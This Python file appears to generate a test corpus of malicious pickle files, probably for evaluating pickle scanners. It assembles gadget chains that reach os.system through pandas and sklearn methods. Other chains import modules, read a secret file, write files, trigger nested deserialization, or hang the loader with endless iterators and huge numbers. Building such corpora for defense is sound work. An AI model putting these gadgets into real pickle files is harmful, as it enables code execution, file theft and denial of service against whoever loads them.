"""Dangerous methods of harmless classes, and iterators without an end."""
from asm import *
from book import add, ALL, PY3
from fam_frameworks import ARR, LEGIT, kw
from fam_frameworks import F as _F
from fam_quiet import obj
from fam_stdlib import c, module, namespace

D = "method/"
W = dict(gives="file-write")
K = dict(gives="crash", canary="crash", on=["3.6", "3.11", "3.13"])


def A(name, body, technique, gives="execute", on=None, **kw):
    body = code(body)
    add(D + name + ".pkl", p4(body) if STACK_GLOBAL in body else p2(body), technique, gives, on=on or PY3, **kw)


def F(pkg, name, body, technique, **kw):
    _F("method", pkg.lower() + "-" + name, body, technique, needs=pkg, **kw)


DROP = c("pathlib:Path.write_text", c("pathlib:Path", "m.py"), PY) + POP
A("optparse-read-module", c("optparse:Values.read_module", c("optparse:Values"), "antigravity"), "optparse.Values.read_module imports the module named", gives="import", canary="import:antigravity")
A("optparse-read-module-getattr", call(getattr_(code(glob("optparse", "Values"), EMPTY_TUPLE, NEWOBJ), "read_module"), "antigravity"), "the same: Values by NEWOBJ, its method by getattr", gives="import", canary="import:antigravity")
A("optparse-read-file", DROP + call(getattr_(code(glob("optparse", "Values"), EMPTY_TUPLE, NEWOBJ), "read_file"), "m.py"), "optparse.Values.read_file runs a dropped file")
A("zoneinfo-from-file", c("zoneinfo:ZoneInfo.from_file", c("io:open", "weir-secret", "rb")), "zoneinfo.ZoneInfo.from_file of an opened file", gives="file-read", canary="read", on=ALL[4:])
F("joblib", "arraywrapper-read", call(getattr_(obj("joblib.numpy_pickle:NumpyArrayWrapper", subclass=glob("numpy", "ndarray"), shape=(1,), order="C", dtype=call(("numpy", "dtype"), "O", 0, 1), allow_mmap=False, numpy_array_alignment_bytes=None), "read_array"), namespace(file_handle=call(("io", "BytesIO"), EVIL), np=module("numpy"))), "joblib's NumpyArrayWrapper.read_array unpickles from what it is given", gives="deserialize")
F("joblib", "ndarraywrapper-read", call(getattr_(obj("joblib.numpy_pickle_compat:NDArrayWrapper", filename="weir-secret", subclass=glob("numpy", "ndarray"), allow_mmap=False), "read"), namespace(_dirname=".", np=module("numpy"), mmap_mode=None)), "joblib's old NDArrayWrapper.read reads a file", gives="file-read", canary="read")
for cls in ("numpy:matrix", "numpy:recarray", "numpy.ma.core:MaskedArray", "numpy:memmap"):
    F("numpy", cls.split(":")[1].lower() + "-dump", c(cls + ".dump", call(getattr_(ARR, "view"), glob(*cls.split(":"))), "weir-canary"), "%s.dump writes a pickle" % cls.replace(":", "."), **W)
F("numpy", "recarray-tofile-getattr", call(getattr_(call(getattr_(LEGIT, "view"), glob("numpy", "recarray")), "tofile"), "weir-canary"), "tofile of a recarray that view made", **W)
F("numpy", "flat-tofile", call(getattr_(getattr_(LEGIT, "T"), "tofile"), "weir-canary"), "tofile of the transposed array, by two getattr", **W)
F("numpy", "methodcaller-tofile", call(call(("operator", "methodcaller"), "tofile", "weir-canary"), LEGIT), "operator.methodcaller of tofile", **W)
F("numpy", "map-tofile", call(("builtins", "tuple"), call(("builtins", "map"), call(("operator", "methodcaller"), "tofile", "weir-canary"), [LEGIT])), "a map of methodcaller of tofile", **W)
F("pandas", "to-string", kw("pandas:DataFrame.to_string", (c("pandas:DataFrame"), "weir-canary"), {}), "pandas.DataFrame.to_string writes to a path", **W)
F("pandas", "series-to-csv", call(getattr_(c("pandas:Series", [1]), "to_csv"), "weir-canary"), "pandas.Series.to_csv by getattr", **W)
F("pandas", "series-to-json", call(getattr_(c("pandas:Series", [1]), "to_json"), "weir-canary"), "pandas.Series.to_json by getattr", **W)
F("pandas", "series-agg", call(getattr_(c("pandas:Series", [CMD]), "agg"), SYSTEM), "pandas.Series.agg of os.system")
F("pandas", "index-map", call(getattr_(c("pandas:Index", [CMD]), "map"), SYSTEM), "pandas.Index.map of os.system")
F("torch", "untypedstorage-write-file", call(getattr_(call(("torch", "UntypedStorage"), 4), "_write_file"), c("io:open", "weir-canary", "wb"), True, True, 1), "a storage writes itself into an opened file", **W)
F("torch", "tensor-numpy-tofile", call(getattr_(call(getattr_(c("torch:ones", 2), "numpy")), "tofile"), "weir-canary"), "a tensor becomes an array, the array writes itself", **W)
F("sklearn", "vectorizer-filename", call(getattr_(kwcall(("sklearn.feature_extraction.text", "CountVectorizer"), (), {"input": "filename"}), "fit"), ["weir-secret"]), "a CountVectorizer with input='filename' reads the files that it is fitted on", gives="file-read", canary="read")
F("sklearn", "vectorizer-analyzer", call(getattr_(kwcall(("sklearn.feature_extraction.text", "CountVectorizer"), (), {"analyzer": SYSTEM}), "fit"), [CMD]), "a CountVectorizer whose analyzer is os.system")
F("statsmodels", "rv-setstate", build(new(("statsmodels.sandbox.distributions.extras", "SkewNorm_gen")), {"_parse_arg_template": PY}), "a distribution class of statsmodels inherits the __setstate__ of scipy that executes a template")
# Iterators without an end, and numbers without a size.
A("int-of-decimal", call(("builtins", "int"), call(("decimal", "Decimal"), "1e999999999")), "int of a Decimal of a thousand million digits", **K)
A("int-of-decimal-newobj", new(("builtins", "int"), new(("decimal", "Decimal"), "1e999999999")), "the same by NEWOBJ", **K)
A("tuple-of-network", new(("builtins", "tuple"), call(("ipaddress", "IPv6Network"), "::/0")), "tuple of all IPv6 addresses", **K)
A("tuple-of-repeat", new(("builtins", "tuple"), new(("itertools", "repeat"), "x")), "tuple of an endless repeat", **K)
A("set-of-product", call(("builtins", "set"), call(("itertools", "product"), *["abcdefgh"] * 20)), "set of eight to the twentieth tuples", **K)
A("appends-endless", new(("builtins", "tuple"), new(("itertools", "cycle"), "x")), "tuple of an endless cycle", **K)
A("slice-assign-endless", EMPTY_LIST + new(("builtins", "slice"), 0, 0) + new(("itertools", "count")) + SETITEM, "SETITEM of a slice of a list with an endless count", **K)
A("max-endless", call(("builtins", "max"), call(("itertools", "count"))), "max of an endless count holds the loader without memory", **K)
A("range-contains", call(("builtins", "sum"), call(("builtins", "range"), 1 << 50)), "sum of a range that takes for ever", **K)
